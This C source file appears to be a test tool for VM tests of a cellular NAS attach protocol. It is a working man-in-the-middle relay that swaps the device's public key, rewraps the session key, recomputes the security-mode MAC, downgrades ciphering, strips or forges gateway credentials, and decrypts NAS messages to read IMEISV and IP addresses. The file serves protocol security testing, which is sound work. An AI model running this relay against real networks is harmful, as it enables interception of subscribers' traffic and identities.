// SPDX-License-Identifier: GPL-2.0
/*
 * A man in the middle for the VM tests (tests/vm/t_mitm.sh, t_cred.sh):
 * a UDP relay between one ME and a gateway that runs the active attack
 * TR 33.815 leaves open.
 *
 *   mitm relay LISTEN_ADDR:PORT GATEWAY_ADDR:PORT [ACTION]...
 *   mitm selftest VECTOR_DIR
 *
 * Actions:
 *   swap-key     replace the ME's 0x7A with our own key; unwrap the
 *                gateway's 0x7D with it, wrap the same KASMEtemp to the
 *                ME's key, put back the 0x7B and the replayed
 *                capabilities the ME expects, and compute the SMC's MAC
 *                again from KASMEtemp: without credentials, both ends
 *                attach and we hold their keys (we print KASMEtemp's
 *                fingerprint and read the ciphered NAS messages)
 *   swap-key-only  replace 0x7A and nothing else: the naive attack,
 *                which 0x7B exposes
 *   downgrade    take EEA2/EEA3 and EIA2/EIA3 out of the ME's UE network
 *                capability
 *   strip-cred   remove the gateway's credential (0x7E) from the SMC
 *   sign-as=KEY  put our own bare key in 0x7E, signed over the ME's
 *                transcript (what a MITM does to an ME in mode pin on
 *                its first contact); needs plmn=MCC-MNC
 *
 * Each action prints one "mitm: " line on stdout.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/sha.h>

#include "config.h"
#include "cred.h"
#include "mitm_crypto.h"
#include "nas.h"
#include "transcript.h"

#define BUF	8192

static struct {
	bool swap, swap_only, downgrade, strip;
	EVP_PKEY *sign_key;		/* sign-as */
	uint8_t *sign_spki;
	size_t sign_spki_len;
	struct nas_plmn plmn;
	/* the ME as it is */
	uint8_t profile;
	uint8_t me_pub[MC_PUB_MAX];
	size_t me_pub_len;
	struct nas_ue_net_cap me_cap;
	bool me_cert;
	uint8_t me_cert_hash[32];
	/* our key toward the gateway */
	EVP_PKEY *priv;
	uint8_t pub[MC_PUB_MAX];
	size_t pub_len;
	/* KASMEtemp, once read, and the NAS keys */
	bool kasme_ok;
	uint8_t kasme[32];
	uint8_t in_blob[MC_BLOB_MAX], out_blob[MC_BLOB_MAX];
	size_t in_len, out_len;
	uint8_t eea, eia, knas_enc[16], knas_int[16];
} st;

static void hexstr(const uint8_t *p, size_t n, char *out)
{
	size_t i;

	for (i = 0; i < n; i++)
		sprintf(out + 2 * i, "%02x", p[i]);
}

/* --- uplink: ATTACH REQUEST --------------------------------------------- */

static size_t rewrite_request(uint8_t *buf, size_t n)
{
	struct nas_emm_msg m;
	struct nas_attach_req *a = &m.attach_req;
	struct nas_err err;
	uint8_t out[BUF];
	size_t len;

	if (nas_emm_decode(buf, n, &m, &err) || !a->has_pubkey)
		return n;
	if (a->pubkey.key_len != st.me_pub_len ||
	    memcmp(a->pubkey.key, st.me_pub, st.me_pub_len) ||
	    a->pubkey.profile != st.profile) {
		/* a new ME key: a new key of ours */
		st.profile = a->pubkey.profile;
		memcpy(st.me_pub, a->pubkey.key, a->pubkey.key_len);
		st.me_pub_len = a->pubkey.key_len;
		EVP_PKEY_free(st.priv);
		st.priv = NULL;
		st.kasme_ok = false;
		st.in_len = 0;
		if ((st.swap || st.swap_only) &&
		    mc_keygen(st.profile, &st.priv, st.pub, &st.pub_len)) {
			printf("mitm: cannot make a key pair\n");
			return n;
		}
	}
	st.me_cap = a->ue_net_cap;
	st.me_cert = a->me_cert.p;
	if (st.me_cert)
		SHA256(a->me_cert.p, a->me_cert.len, st.me_cert_hash);
	if (st.downgrade) {
		a->ue_net_cap.oct[0] &= 0xcf;
		a->ue_net_cap.oct[1] &= 0xcf;
		printf("mitm: downgraded the UE network capability: EEA %02x "
		       "EIA %02x -> EEA %02x EIA %02x\n", st.me_cap.oct[0],
		       st.me_cap.oct[1], a->ue_net_cap.oct[0],
		       a->ue_net_cap.oct[1]);
	}
	if (st.swap || st.swap_only) {
		a->pubkey.key = st.pub;
		a->pubkey.key_len = st.pub_len;
		printf("mitm: replaced the ME public key (0x7A, profile %c)\n",
		       st.profile == 1 ? 'A' : 'B');
	}
	if (nas_emm_encode(&m, out, sizeof(out), &len, &err)) {
		printf("mitm: cannot encode the ATTACH REQUEST\n");
		return n;
	}
	memcpy(buf, out, len);
	return len;
}

/* --- downlink: SECURITY MODE COMMAND ------------------------------------ */

/* KASMEtemp from the gateway's blob, and the same one for the ME */
static int rewrap(const uint8_t *blob, size_t len)
{
	char fpr[17];
	uint8_t md[32];

	if (st.in_len == len && !memcmp(st.in_blob, blob, len))
		return 0;	/* a retransmission: same answer */
	if (mc_unwrap(st.profile, st.priv, blob, len, st.kasme, 32)) {
		printf("mitm: cannot unwrap 0x7D\n");
		return -EBADMSG;
	}
	SHA256(st.kasme, 32, md);
	hexstr(md, 8, fpr);
	printf("mitm: KASMEtemp fpr %s\n", fpr);
	if (mc_wrap(st.profile, st.me_pub, st.me_pub_len, st.kasme, 32, NULL,
		    st.out_blob, &st.out_len))
		return -EIO;
	memcpy(st.in_blob, blob, len);
	st.in_len = len;
	st.kasme_ok = true;
	return 0;
}

/* Our own 0x7E: bare key, signed over the ME's transcript */
static int forge_cred(const struct nas_smc *smc, uint8_t *out, size_t cap,
		      size_t *len)
{
	struct transcript t = {
		.role = TR_GATEWAY, .plmn = st.plmn, .profile = st.profile,
		.me_pub = st.me_pub, .me_pub_len = st.me_pub_len,
		.me_cert_hash = st.me_cert ? st.me_cert_hash : NULL,
		.eea = smc->eea, .eia = smc->eia, .caps = &smc->replayed,
		.blob = st.out_blob, .blob_len = st.out_len,
		.spki = st.sign_spki, .spki_len = st.sign_spki_len,
	};
	struct nas_parlos_cred cr = { .kind = NAS_CRED_PUBKEY, .n = 1 };
	uint8_t md[32], sig[CRED_SIG_MAX];
	size_t sl;

	if (transcript_digest(&t, md) || cred_sign(st.sign_key, md, sig, &sl))
		return -EIO;
	cr.item[0].p = st.sign_spki;
	cr.item[0].len = st.sign_spki_len;
	cr.sig_alg = cred_key_alg(st.sign_key);
	cr.sig.p = sig;
	cr.sig.len = sl;
	return nas_cred_encode(&cr, NAS_CRED_PART | NAS_SIG_PART, out, cap,
			       len);
}

static size_t rewrite_smc(uint8_t *buf, size_t n)
{
	struct nas_sec_hdr h;
	struct nas_emm_msg m;
	struct nas_err err;
	uint8_t msg[BUF], out[BUF], hash[32], cred[CRED_IE_MAX], key[34];
	size_t len, pl, cl, bl;

	if (!st.priv || nas_sec_parse(buf, n, &h, &err) ||
	    nas_emm_decode(h.msg, h.msg_len, &m, &err) ||
	    m.type != NAS_SECURITY_MODE_COMMAND || !m.smc.has_kasme)
		return n;
	pl = m.smc.kasme.eph_len;
	bl = pl + NAS_PARLOS_CT_LEN + NAS_PARLOS_TAG_LEN;
	if (rewrap(m.smc.kasme.eph, bl))
		return n;
	if (mc_nas_key(st.kasme, 2, m.smc.eia, st.knas_int) ||
	    mc_nas_key(st.kasme, 1, m.smc.eea, st.knas_enc))
		return n;
	st.eea = m.smc.eea;
	st.eia = m.smc.eia;
	m.smc.kasme.eph = st.out_blob;
	m.smc.kasme.ct = st.out_blob + pl;
	m.smc.kasme.tag = st.out_blob + pl + NAS_PARLOS_CT_LEN;
	/* what the ME checks: the hash of its key, its capabilities */
	key[0] = st.profile;
	memcpy(key + 1, st.me_pub, st.me_pub_len);
	SHA256(key, st.me_pub_len + 1, hash);
	m.smc.pubkey_hash.p = hash;
	m.smc.pubkey_hash.len = sizeof(hash);
	nas_ue_sec_cap_from_net_cap(&m.smc.replayed, &st.me_cap);
	if (st.strip && m.smc.gw_cert.p) {
		m.smc.gw_cert.p = NULL;
		m.smc.gw_cert.len = 0;
		printf("mitm: removed the gateway credential (0x7E)\n");
	}
	if (st.sign_key) {
		if (forge_cred(&m.smc, cred, sizeof(cred), &cl)) {
			printf("mitm: cannot sign\n");
			return n;
		}
		m.smc.gw_cert.p = cred;
		m.smc.gw_cert.len = cl;
		printf("mitm: put our own key in 0x7E\n");
	}
	if (nas_emm_encode(&m, msg + 1, sizeof(msg) - 1, &len, &err))
		return n;
	/* MAC over SQN | message with the DL COUNT of the SQN */
	msg[0] = h.sqn;
	out[0] = buf[0];
	if (mc_eia(st.eia, st.knas_int, h.sqn, 1, msg, len + 1, out + 1))
		return n;
	memcpy(out + 5, msg, len + 1);
	printf("mitm: SECURITY MODE COMMAND rewritten, EIA%u MAC computed "
	       "again\n", st.eia);
	memcpy(buf, out, len + 6);
	return len + 6;
}

/* A ciphered NAS message, read with the keys we should not have */
static void peek(const uint8_t *buf, size_t n, uint8_t dir)
{
	uint8_t plain[BUF];
	struct nas_sec_hdr h;
	struct nas_emm_msg m;
	struct nas_err err;
	const char *name;

	if (!st.kasme_ok || nas_sec_parse(buf, n, &h, &err) ||
	    (h.sht != NAS_SHT_INTEG_CIPH && h.sht != NAS_SHT_INTEG_CIPH_NEW) ||
	    h.msg_len > sizeof(plain))
		return;
	memcpy(plain, h.msg, h.msg_len);
	if (mc_eea(st.eea, st.knas_enc, h.sqn, dir, plain, h.msg_len) ||
	    nas_emm_decode(plain, h.msg_len, &m, &err))
		return;
	name = nas_msg_name(NAS_PD_EMM, m.type);
	if (m.type == NAS_ATTACH_ACCEPT)
		printf("mitm: read ATTACH ACCEPT: ME address %u.%u.%u.%u\n",
		       m.attach_acc.esm.act_req.addr.ipv4[0],
		       m.attach_acc.esm.act_req.addr.ipv4[1],
		       m.attach_acc.esm.act_req.addr.ipv4[2],
		       m.attach_acc.esm.act_req.addr.ipv4[3]);
	else if (m.type == NAS_SECURITY_MODE_COMPLETE && m.smc_cpl.has_imeisv)
		printf("mitm: read SECURITY MODE COMPLETE: imeisv %s\n",
		       m.smc_cpl.imeisv);
	else
		printf("mitm: read %s\n", name ? name : "a NAS message");
}

/* --- the relay ---------------------------------------------------------- */

static int addr(const char *s, struct sockaddr_in *sa)
{
	char host[64];
	const char *c = strchr(s, ':');

	if (!c || (size_t)(c - s) >= sizeof(host))
		return -1;
	memcpy(host, s, (size_t)(c - s));
	host[c - s] = '\0';
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)atoi(c + 1));
	return inet_pton(AF_INET, host, &sa->sin_addr) == 1 ? 0 : -1;
}

static int sock(const struct sockaddr_in *bind_to)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0 || (bind_to && bind(fd, (const struct sockaddr *)bind_to,
				       sizeof(*bind_to)))) {
		perror("mitm: socket");
		exit(1);
	}
	return fd;
}

static int relay(const char *listen_at, const char *gw)
{
	static uint8_t buf[BUF];
	struct sockaddr_in la, ga, me = { 0 }, from;
	struct pollfd p[2];
	socklen_t fl;
	bool have_me = false;
	ssize_t n;

	if (addr(listen_at, &la) || addr(gw, &ga))
		return 2;
	p[0].fd = sock(&la);	/* the ME's side */
	p[1].fd = sock(NULL);	/* the gateway's side */
	p[0].events = p[1].events = POLLIN;
	printf("mitm: %s -> %s\n", listen_at, gw);
	for (;;) {
		if (poll(p, 2, -1) < 0 && errno != EINTR)
			return 1;
		fl = sizeof(from);
		if (p[0].revents & POLLIN) {
			n = recvfrom(p[0].fd, buf, sizeof(buf) / 2, 0,
				     (struct sockaddr *)&from, &fl);
			if (n > 1) {
				me = from;
				have_me = true;
				if (buf[0] == 0x07 &&
				    buf[1] == NAS_ATTACH_REQUEST)
					n = (ssize_t)rewrite_request(
						buf, (size_t)n);
				else
					peek(buf, (size_t)n, 0);
				sendto(p[1].fd, buf, (size_t)n, 0,
				       (struct sockaddr *)&ga, sizeof(ga));
			}
		}
		if (!(p[1].revents & POLLIN))
			continue;
		n = recv(p[1].fd, buf, sizeof(buf) / 2, 0);
		if (n <= 1 || !have_me)
			continue;
		if (buf[0] == 0x37 && st.swap)
			n = (ssize_t)rewrite_smc(buf, (size_t)n);
		else
			peek(buf, (size_t)n, 1);
		sendto(p[0].fd, buf, (size_t)n, 0, (struct sockaddr *)&me,
		       sizeof(me));
	}
}

static int load_signer(const char *path)
{
	FILE *f = fopen(path, "r");

	st.sign_key = f ? PEM_read_PrivateKey(f, NULL, NULL, NULL) : NULL;
	if (f)
		fclose(f);
	if (!st.sign_key || !cred_key_alg(st.sign_key))
		return -1;
	st.sign_spki = cred_spki(st.sign_key, &st.sign_spki_len);
	return st.sign_spki ? 0 : -1;
}

int main(int argc, char **argv)
{
	bool have_plmn = false;
	int i;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && !strcmp(argv[1], "selftest"))
		return mc_selftest(argv[2]);
	if (argc < 4 || strcmp(argv[1], "relay")) {
		fprintf(stderr, "usage: mitm relay LISTEN GATEWAY "
			"[swap-key|swap-key-only] [downgrade] [strip-cred] "
			"[sign-as=KEY plmn=MCC-MNC]\n"
			"       mitm selftest VECTOR_DIR\n");
		return 2;
	}
	for (i = 4; i < argc; i++) {
		if (!strcmp(argv[i], "swap-key"))
			st.swap = true;
		else if (!strcmp(argv[i], "swap-key-only"))
			st.swap_only = true;
		else if (!strcmp(argv[i], "downgrade"))
			st.downgrade = true;
		else if (!strcmp(argv[i], "strip-cred"))
			st.strip = true;
		else if (!strncmp(argv[i], "sign-as=", 8) &&
			 !load_signer(argv[i] + 8))
			continue;
		else if (!strncmp(argv[i], "plmn=", 5) &&
			 !parse_plmn(argv[i] + 5, &st.plmn))
			have_plmn = true;
		else {
			fprintf(stderr, "mitm: bad action %s\n", argv[i]);
			return 2;
		}
	}
	if (st.sign_key && (!have_plmn || !st.swap)) {
		fprintf(stderr, "mitm: sign-as needs swap-key and plmn=\n");
		return 2;
	}
	return relay(argv[2], argv[3]);
}
